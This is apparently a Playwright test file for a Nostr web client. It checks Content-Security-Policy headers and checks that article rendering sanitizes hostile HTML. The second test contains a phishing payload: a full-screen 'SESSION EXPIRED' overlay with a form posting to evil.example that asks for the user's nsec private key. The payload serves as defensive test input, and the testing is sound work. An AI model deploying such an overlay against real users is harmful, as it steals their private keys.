import { expect, test, type Page } from '@playwright/test';
import { finalizeEvent, generateSecretKey, nip19, type NostrEvent } from 'nostr-tools';
import { watchConsole } from './console-guard.ts';

/** Records Content-Security-Policy violations of the page (the browser reports each one). */
async function watchCsp(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
}

/** Publishes one event to the server's relay and waits for its OK. */
function publish(relayUrl: string, event: NostrEvent): Promise<void> {
  return new Promise((resolve, reject) => {
    // Node's own WebSocket client.
    const ws = new WebSocket(relayUrl);
    ws.addEventListener('open', () => ws.send(JSON.stringify(['EVENT', event])));
    ws.addEventListener('message', (msg) => {
      const m = JSON.parse(String(msg.data)) as unknown[];
      if (m[0] !== 'OK' || m[1] !== event.id) return;
      ws.close();
      if (m[2] === true) resolve();
      else reject(new Error(String(m[3])));
    });
    ws.addEventListener('error', () => reject(new Error('relay connection failed')));
  });
}

test('the app loads under its Content-Security-Policy without a violation', async ({ page }) => {
  const errors = watchConsole(page);
  const violations = await watchCsp(page);
  const res = await page.goto('/home');
  const csp = res?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(res?.headers()['x-content-type-options']).toBe('nosniff');
  const feed = page.getByRole('feed', { name: 'Home' });
  await expect(feed.locator('article').first()).toBeVisible();
  // Avatars and pictures (the devnet's media) load too.
  await expect
    .poll(() =>
      feed
        .locator('img.avatar')
        .first()
        .evaluate((img: HTMLImageElement) => img.naturalWidth > 0),
    )
    .toBe(true);
  expect(await violations()).toEqual([]);
  expect(errors).toEqual([]);
});

test('an article with a fixed overlay and a password field renders neither', async ({
  page,
  baseURL,
}) => {
  const errors = watchConsole(page);
  const violations = await watchCsp(page);
  const sk = generateSecretKey();
  const article = finalizeEvent(
    {
      kind: 30023,
      created_at: Math.floor(Date.now() / 1000),
      tags: [
        ['d', 'session-expired'],
        ['title', 'Totally normal article'],
      ],
      content: [
        'The article starts here.',
        '',
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff" class="dialog-overlay">',
        '<h1>SESSION EXPIRED</h1><form action="https://evil.example/"><input type="password" ',
        'name="nsec" placeholder="paste your nsec"><button>Log in</button></form></div>',
      ].join('\n'),
    },
    sk,
  );
  await publish(`${baseURL!.replace(/^http/, 'ws')}/relay`, article);
  const naddr = nip19.naddrEncode({
    kind: 30023,
    pubkey: article.pubkey,
    identifier: 'session-expired',
  });
  await page.goto(`/thread/${naddr}`);
  const body = page.locator('.markdown');
  await expect(body).toContainText('The article starts here.');
  expect(await page.locator('input[type="password"]').count()).toBe(0);
  expect(await body.locator('form, input, button').count()).toBe(0);
  const positioned = await body.evaluate((root) =>
    [root, ...Array.from(root.querySelectorAll('*'))]
      .map((el) => getComputedStyle(el).position)
      .filter((p) => p !== 'static' && p !== 'relative'),
  );
  expect(positioned).toEqual([]);
  expect(await violations()).toEqual([]);
  expect(errors).toEqual([]);
});
